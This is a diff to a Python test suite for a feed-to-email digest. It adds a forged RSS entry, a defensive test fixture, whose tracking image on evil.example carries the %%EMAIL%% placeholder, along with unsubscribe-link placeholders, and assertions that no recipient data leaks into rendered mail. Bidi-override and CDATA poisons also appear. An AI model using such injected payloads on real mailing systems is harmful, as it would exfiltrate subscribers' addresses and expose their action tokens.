@@ -66,6 +66,7 @@ class Poison:
     shown_title: str | None = None  # in the HTML and text parts, after cleaning
     shown_text: str | None = None  # in the text part
     shown_html: str | None = None  # in the HTML part, as written there (escaped)
+    leaks: tuple[str, ...] = ()  # after these, no member's own address or link may follow
 
 
 def _json_feed() -> bytes:
@@ -113,6 +114,14 @@ POISONS = {
         rss(GOOD, rss_entry("<![CDATA[End ]]]]><![CDATA[> marker]]>", "bad",
                             "<![CDATA[<p>before ]]]]><![CDATA[> after <![CDATA[x</p>]]>")),
         shown_title="End ]]> marker", shown_text="before ]]> after"),
+    # The per-recipient markers, forged in a feed: a tracking image that would collect every
+    # member's address, text that would show their unsubscribe link (whose token acts).
+    "placeholder-markers": Poison(
+        rss(GOOD, rss_entry("Dear %%NAME%% news", "bad",
+                            '&lt;p&gt;&lt;img src="https://evil.example/p.gif?e=%%EMAIL%%"&gt;'
+                            "Unsubscribe at %%UNSUBSCRIBE_URL%% or %%PREFERENCES_URL%%"
+                            "&lt;/p&gt;")),
+        shown_text="Unsubscribe at %", leaks=("p.gif?e=", "Unsubscribe at ", "news")),
     "bidi-overrides": Poison(
         rss(GOOD, rss_entry("Safe\u202etxt.exe\u202c title \u2066isolated\u2069", "bad",
                             "Pay \u202eaccount 0123\u202c now \u2067x\u2069")),
@@ -193,6 +202,13 @@ def test_a_poisoned_entry_never_blocks_the_edition(tmp_path: Path, server: FeedS
             assert poison.shown_text in plain
         if poison.shown_html:
             assert poison.shown_html in html_text
+        member = message.rcpt_tos[0]
+        for before in poison.leaks:
+            for part in (html_text, html.unescape(html_text), plain):
+                for following in part.split(before)[1:]:
+                    near = following[:120]
+                    assert member not in near and "/digest/u/" not in near, near
+                    assert "/digest/p/" not in near and "Anna" not in near and "Jean" not in near
     # The feeds are XML: what would break a reader's parser is not in them either.
     atom = (tmp_path / "feeds" / "all.atom").read_text(encoding="utf-8")
     assert not FORBIDDEN.search(html.unescape(atom))
